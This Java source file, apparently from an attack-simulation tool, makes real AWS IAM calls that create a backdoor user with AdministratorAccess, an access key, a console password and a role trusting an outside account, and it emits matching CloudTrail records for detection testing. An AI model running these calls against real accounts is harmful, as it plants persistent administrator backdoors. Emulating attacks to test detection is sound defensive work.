package dev.tourniquet.cli.simulate;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.tourniquet.internal.Json;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.Locale;
import java.util.Optional;
import software.amazon.awssdk.services.iam.model.AccessKey;
import software.amazon.awssdk.services.iam.model.Role;
import software.amazon.awssdk.services.iam.model.User;

/**
 * The attacker's persistence calls with the leaked key: a backdoor user with an access key, a console
 * password and AdministratorAccess; a backdoor role its own account may assume, with AdministratorAccess.
 * Each returns what CloudTrail records of it: {@code requestParameters} and {@code responseElements} as in
 * real records of these calls (the password is never recorded; {@code AttachUserPolicy} and
 * {@code AttachRolePolicy} record {@code responseElements: null}; {@code CreateRole}'s response carries the
 * trust policy URL-encoded; IAM dates as {@code Aug 1, 2024 1:33:28 PM}). The shapes are those of the real
 * records in Stratus Red Team's published detonation logs of {@code aws.persistence.iam-create-admin-user},
 * {@code aws.persistence.iam-create-user-login-profile} and {@code aws.persistence.iam-create-backdoor-role}
 * (github.com/DataDog/stratus-red-team, docs/attack-techniques/AWS).
 */
final class BackdoorCalls {
    private static final DateTimeFormatter IAM_DATE = DateTimeFormatter.ofPattern("MMM d, yyyy h:mm:ss a", Locale.US)
            .withZone(ZoneOffset.UTC);

    private final AttackerClients clients;
    private final AttackProfile.Backdoor backdoor;
    private LeakedKey key;

    BackdoorCalls(AttackerClients clients, AttackProfile.Backdoor backdoor) {
        this.clients = clients;
        this.backdoor = backdoor;
    }

    /** The backdoor user's key, once minted. */
    Optional<LeakedKey> key() {
        return Optional.ofNullable(key);
    }

    AttackerCalls.Made make(AttackerCall call, Duration at) {
        return switch (call.kind()) {
            case CREATE_USER -> createUser(at);
            case CREATE_ACCESS_KEY -> createAccessKey();
            case CREATE_LOGIN_PROFILE -> createLoginProfile();
            case ATTACH_USER_POLICY -> attachUserPolicy();
            case CREATE_BACKDOOR_ROLE -> createRole(at);
            case ATTACH_ROLE_POLICY -> attachRolePolicy();
            default -> throw new IllegalArgumentException("not a backdoor call: " + call.kind());
        };
    }

    /** The trust policy of the backdoor role: the attacker's own account may assume it. */
    String trust() {
        return "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":"
                + "\"arn:aws:iam::" + backdoor.outsideAccount() + ":root\"},\"Action\":\"sts:AssumeRole\"}]}";
    }

    private AttackerCalls.Made createUser(Duration at) {
        User user = clients.iam().createUser(r -> r.userName(backdoor.userName())).user();
        ObjectNode response = Json.object();
        response.putObject("user").put("arn", user.arn()).put("createDate", iamDate(user.createDate()))
                .put("path", user.path()).put("userId", user.userId()).put("userName", user.userName());
        return made("user " + user.arn(), "CreateUser", Json.object().put("userName", backdoor.userName()), response,
                new AttackerResource(AttackerResource.Kind.USER, user.arn(), "global", backdoor.userName(), at,
                        clients.keyId()));
    }

    private AttackerCalls.Made createAccessKey() {
        AccessKey minted = clients.iam().createAccessKey(r -> r.userName(backdoor.userName())).accessKey();
        User user = clients.iam().getUser(r -> r.userName(backdoor.userName())).user();
        key = new LeakedKey(minted.accessKeyId(), minted.secretAccessKey(), user.userName(), user.arn(), user.userId());
        ObjectNode response = Json.object();
        response.putObject("accessKey").put("accessKeyId", minted.accessKeyId())
                .put("createDate", iamDate(minted.createDate())).put("status", minted.statusAsString())
                .put("userName", minted.userName());
        return made("key " + minted.accessKeyId() + " for " + backdoor.userName(), "CreateAccessKey",
                Json.object().put("userName", backdoor.userName()), response, null);
    }

    private AttackerCalls.Made createLoginProfile() {
        var profile = clients.iam().createLoginProfile(r -> r.userName(backdoor.userName())
                .password("Tr0ub4dor&3-" + Long.toHexString(System.nanoTime())).passwordResetRequired(false))
                .loginProfile();
        ObjectNode response = Json.object();
        response.putObject("loginProfile").put("createDate", iamDate(profile.createDate()))
                .put("passwordResetRequired", false).put("userName", profile.userName());
        return made("console password for " + backdoor.userName(), "CreateLoginProfile",
                Json.object().put("passwordResetRequired", false).put("userName", backdoor.userName()), response, null);
    }

    private AttackerCalls.Made attachUserPolicy() {
        clients.iam().attachUserPolicy(r -> r.userName(backdoor.userName())
                .policyArn(AttackProfile.Backdoor.ADMINISTRATOR_ACCESS));
        return made("AdministratorAccess on " + backdoor.userName(), "AttachUserPolicy", Json.object()
                .put("policyArn", AttackProfile.Backdoor.ADMINISTRATOR_ACCESS).put("userName", backdoor.userName()),
                null, null);
    }

    private AttackerCalls.Made createRole(Duration at) {
        String trust = trust();
        Role role = clients.iam().createRole(r -> r.roleName(backdoor.roleName()).assumeRolePolicyDocument(trust))
                .role();
        ObjectNode response = Json.object();
        response.putObject("role").put("arn", role.arn()).put("assumeRolePolicyDocument", urlEncoded(trust))
                .put("createDate", iamDate(role.createDate())).put("path", role.path()).put("roleId", role.roleId())
                .put("roleName", role.roleName());
        return made("role " + role.arn() + " trusting account " + backdoor.outsideAccount(), "CreateRole",
                Json.object().put("assumeRolePolicyDocument", trust).put("roleName", backdoor.roleName()), response,
                new AttackerResource(AttackerResource.Kind.ROLE, role.arn(), "global", backdoor.roleName(), at,
                        clients.keyId()));
    }

    private AttackerCalls.Made attachRolePolicy() {
        clients.iam().attachRolePolicy(r -> r.roleName(backdoor.roleName())
                .policyArn(AttackProfile.Backdoor.ADMINISTRATOR_ACCESS));
        return made("AdministratorAccess on " + backdoor.roleName(), "AttachRolePolicy", Json.object()
                .put("policyArn", AttackProfile.Backdoor.ADMINISTRATOR_ACCESS).put("roleName", backdoor.roleName()),
                null, null);
    }

    private static AttackerCalls.Made made(String text, String eventName, ObjectNode request, ObjectNode response,
                                           AttackerResource created) {
        return new AttackerCalls.Made(text, Optional.of(new CloudTrailRecord("iam", eventName,
                Deployment.GLOBAL_EVENTS_REGION, request, response)), Optional.ofNullable(created));
    }

    /** A date as IAM's CloudTrail records write it ({@code Aug 1, 2024 1:33:28 PM}). */
    static String iamDate(Instant instant) {
        return IAM_DATE.format(instant == null ? Instant.now() : instant);
    }

    /** A policy document as {@code CreateRole}'s response element carries it (URL-encoded). */
    static String urlEncoded(String document) {
        return URLEncoder.encode(document, StandardCharsets.UTF_8).replace("+", "%20");
    }
}
